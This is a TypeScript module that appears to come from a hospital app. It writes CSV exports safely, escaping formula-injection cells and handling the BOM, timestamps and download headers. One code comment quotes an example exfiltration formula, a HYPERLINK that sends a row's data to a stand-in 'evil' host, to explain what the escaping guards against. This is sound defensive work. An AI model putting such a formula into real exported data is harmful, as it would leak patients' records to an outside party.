import { stringify } from "csv-stringify/sync";
import { DateTime } from "luxon";
import { env } from "./env";

// Every CSV the app writes goes through here (reports, the report builder, treatment-history
// exports), so that each one is safe to open in a spreadsheet:
// - formula injection (OWASP "CSV Injection", ASVS 5.0 V1.2.10, CWE-1236): a text cell starting
//   with = + - @, a tab, a carriage return or NUL would be run as a formula by Excel, LibreOffice or
//   Google Sheets (`=HYPERLINK("https://evil/?"&A2, "Open")` in a diagnosis sends the row away), so
//   it is written with a leading apostrophe, which they show as text;
// - a UTF-8 byte order mark first, without which Excel reads the file as the local ANSI code page
//   and shows "Â°C" and "rÃ©sumÃ©".
// - one timestamp format: ISO 8601 to the second, in the hospital's time zone, with its offset
//   ("2026-03-15T11:00:00+01:00"), which a spreadsheet reads as the hospital's clock;
// Quoting (RFC 4180: commas, quotes, line breaks inside a cell) is csv-stringify's.

/** What a cell may hold. Numbers are numbers because our code made them so, never because of their text. */
export type CsvCell = string | number | bigint | boolean | Date | null | undefined;

const FORMULA_START = /^[=+\-@\t\r\0]/;
export const BOM = "\uFEFF";

/**
 * A cell as written. Numbers (a refund's -1500, a net of -20) are exempt and stay numbers a
 * spreadsheet can sum: a JavaScript number prints as digits, a sign, a point or an exponent only, so
 * it cannot hold a formula. Text is never exempt, even text that looks like a number ("-5", a phone
 * "+33 6…"): which cells are numbers is decided by the code that builds the rows, not by the data.
 */
export function csvCell(value: CsvCell): string | number {
  if (value === null || value === undefined) return "";
  if (typeof value === "number") return value;
  if (typeof value === "bigint") return value.toString();
  if (typeof value === "boolean") return String(value);
  if (value instanceof Date) return csvTimestamp(value);
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** An instant as every CSV writes it: to the second, in HOSPITAL_TIMEZONE, with the offset. */
export function csvTimestamp(at: Date | string): string {
  const d = DateTime.fromJSDate(typeof at === "string" ? new Date(at) : at, { zone: env().HOSPITAL_TIMEZONE });
  return d.set({ millisecond: 0 }).toISO({ suppressMilliseconds: true }) ?? "";
}

/** A whole CSV file: the byte order mark, then one line per row (the header is the first row). */
export function toCsv(rows: readonly (readonly CsvCell[])[]): string {
  return BOM + stringify(rows.map((row) => row.map(csvCell)));
}

/** A CSV download: UTF-8, an attachment named `<name>.csv`, never stored by a browser or a proxy. */
export function csvResponse(body: string, name: string): Response {
  return new Response(body, {
    headers: {
      "Content-Type": "text/csv; charset=utf-8",
      "Content-Disposition": `attachment; filename="${name}.csv"`,
      "Cache-Control": "no-store",
    },
  });
}
